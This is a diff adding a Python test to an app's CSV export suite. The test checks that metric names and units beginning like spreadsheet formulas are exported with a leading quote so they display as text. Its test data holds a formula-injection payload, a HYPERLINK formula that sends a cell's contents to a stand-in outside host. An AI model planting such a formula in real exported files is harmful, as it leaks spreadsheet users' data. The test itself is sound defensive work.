@@ -170,6 +170,39 @@ def test_csv_for_a_brazilian_spreadsheet(session: Session) -> None:
     ]
 
 
+def test_csv_metric_names_and_units_never_run_as_formulas(session: Session) -> None:
+    """A metric is named by the team: a name or unit that starts like a formula (after
+    spaces too) is exported with a leading quote, so the spreadsheet shows it as text."""
+    t = make_team(session)
+    ana = make_client(session, t.team.id, name="Ana")
+    metric = metrics.save_metric(
+        session=session,
+        actor=t.owner,
+        metric_id=None,
+        name=' =HYPERLINK("http://x.y/?"&A1)',
+        unit="@cm",
+        decimals=0,
+        min_raw="1",
+        max_raw="500",
+        lower_is_better=False,
+    )
+    progress.save_assessment(
+        session=session,
+        actor=t.owner,
+        client_id=ana,
+        assessment_id=None,
+        taken_on=date(2026, 3, 1),
+        values={metric.id: "90"},
+        note="",
+        now=NOW,
+    )
+    text = progress.export_csv(session=session, actor=t.owner, client_id=ana)
+    row = next(line for line in text.splitlines() if "HYPERLINK" in line)
+    day, name, _value, unit = row.split(";", 3) if row.count(";") == 3 else ("", "", "", "")
+    assert day == "01/03/2026"
+    assert name.strip('"').startswith("'") and unit == "'@cm", row
+
+
 def test_permissions_and_tenancy(db: Engine) -> None:
     with unit_of_work(db) as s:
         t = make_team(s)
